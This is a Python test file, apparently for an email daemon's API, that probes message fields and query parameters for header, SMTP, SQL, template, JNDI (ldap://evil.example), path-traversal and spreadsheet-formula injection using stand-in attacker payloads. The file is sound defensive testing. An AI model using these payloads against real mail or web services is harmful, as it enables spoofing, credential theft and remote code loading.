"""Fields of a document as a way into headers and statements: refused by name, or carried as text."""

import asyncio
import itertools
import re
from typing import Any

from tests.fakes.api_client import http_client, make_key
from tests.fakes.daemon import APPLICATION, Daemon, MakeDaemon
from tests.fakes.far_mx import FarMx
from tests.flows.house import FAR

INBOX = f"/v1/inboxes/{APPLICATION}"
EVIL = "Bcc: eve@evil.example"
BREAKS = [
    *(
        "\r\n",
        "\n",
        "\r",
        "\n\r",
        "\r\n ",
        "\r\n\t",
        "\r\n\r\n",
        "\0",
        "\x0b",
        "\x0c",
        "\x1c",
        "\x1d",
        "\x1e",
    ),
    *("\x85", "\u2028", "\u2029", "\ufeff\r\n", "\\r\\n", "%0d%0a", "&#13;&#10;", "=0D=0A", "\u560d\u560a"),
    *("\x7f", "\x1b[2J", "\u202e", "?=\r\n", "=?utf-8?q?=0d=0a?=", "=?utf-8?b?DQo=?=", '"\r\n', ";\r\n"),
]
PAYLOADS = [f"x{line_end}{EVIL}" for line_end in BREAKS] + [
    *(
        "<x>\r\nRCPT TO:<eve@evil.example>",
        "x\r\n.\r\nMAIL FROM:<>",
        "../../../etc/passwd",
        "a\tb\r\nSubject: other",
        "x" * 5000,
    ),
    *(
        "{{7*7}}",
        "${jndi:ldap://evil.example/}",
        "'; drop table messages; --",
        "\u0000\ud7ff",
        "=cmd|' /C calc'!A0",
    ),
]
# What a letter says in a header, by the field of the document.
FIELDS: dict[str, Any] = {
    "subject": lambda text: {"subject": text},
    "the name of a person": lambda text: {"to": {"address": f"ann@{FAR}", "name": text}},
    "the name of an author": lambda text: {"from": {"address": APPLICATION, "name": text}},
    "an address for answers": lambda text: {"reply_to": text},
    "the value of a header": lambda text: {"headers": {"X-Mine": text}},
    "the name of a header": lambda text: {"headers": {text: "x"}},
    "a file name": lambda text: {"attachments": [{"filename": text, "content": "aGk="}]},
    "a content type": lambda text: {
        "attachments": [{"filename": "a", "content": "aGk=", "content_type": text}]
    },
    "a content id": lambda text: {"attachments": [{"filename": "a", "content": "aGk=", "content_id": text}]},
    "a label": lambda text: {"labels": [text]},
    "a tag": lambda text: {"tags": [text]},
    "metadata": lambda text: {"metadata": {"x": text}},
}
# Fields by which a message would lie about its way, or be answered by us.
PROTECTED = [
    "DKIM-Signature",
    "Received",
    "Return-Path",
    "Authentication-Results",
    "ARC-Seal",
    "Bcc",
    "From",
    "Sender",
]
SQL = [
    *(
        "'",
        "' or '1'='1",
        '"; drop table messages; --',
        "1) union select secret from api_keys --",
        "%",
        "_",
        "\\",
    ),
    *(
        '"" OR ""',
        "a* NEAR/2 b",
        "subject:x",
        "{a b}",
        "^x",
        "NOT",
        "(",
        '"',
        "x AND",
        "-x",
        "a:b:c",
        "\u0000",
        "*",
    ),
]


def test_there_are_forty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


async def test_no_field_of_a_letter_makes_a_header(daemon: Daemon, mx: FarMx) -> None:
    key = await make_key(daemon)
    await daemon.start()
    sent = 0
    async with http_client(daemon, key) as http:
        for name, field in FIELDS.items():
            for payload in PAYLOADS:
                letter = {"to": f"ann@{FAR}", "text": "x", **field(payload)}
                answer = await http.post(f"{INBOX}/messages", json=letter)
                assert answer.status_code in (201, 422), (name, payload, answer.text)
                sent += answer.status_code == 201
        for name in PROTECTED:
            letter = {"to": f"ann@{FAR}", "text": "x", "headers": {name: "x"}}
            assert (await http.post(f"{INBOX}/messages", json=letter)).status_code == 422, name
    assert 0 < sent < len(FIELDS) * len(PAYLOADS)
    async with asyncio.timeout(60):
        arrived = await mx.messages_arrive(sent)
    for received in arrived:
        head = received.content.partition(b"\r\n\r\n")[0] + b"\r\n"
        for line in re.sub(rb"\r\n[ \t]+", b" ", head).split(b"\r\n"):
            assert not re.match(rb"\W*bcc\W*:|rcpt to|mail from", line, re.I), line
        assert not re.search(rb"\r(?!\n)|(?<!\r)\n|\0", received.wire)
        assert received.recipients == [f"ann@{FAR}"]
    assert not [said for said in mx.commands if "evil" in said]


async def test_no_word_of_a_question_is_a_statement(make_daemon: MakeDaemon) -> None:
    daemon = await make_daemon({}, receives=True)
    key = await make_key(daemon)
    await daemon.start()
    questions = {
        f"{INBOX}/messages": ("q", "label", "sender", "to", "cursor", "thread", "since"),
        "/v1/events": ("kind", "after", "message", "cursor"),
        "/v1/threads": ("label", "cursor"),
    }
    async with http_client(daemon, key) as http:
        for path, names in questions.items():
            for name, text in itertools.product(names, SQL):
                answer = await http.get(path, params={name: text})
                assert answer.status_code in (200, 404, 422), (name, text, answer.text)
                if answer.status_code == 200 and path != "/v1/events":
                    assert answer.json()["data"] == [], (name, text)
        assert (await http.get(INBOX)).status_code == 200
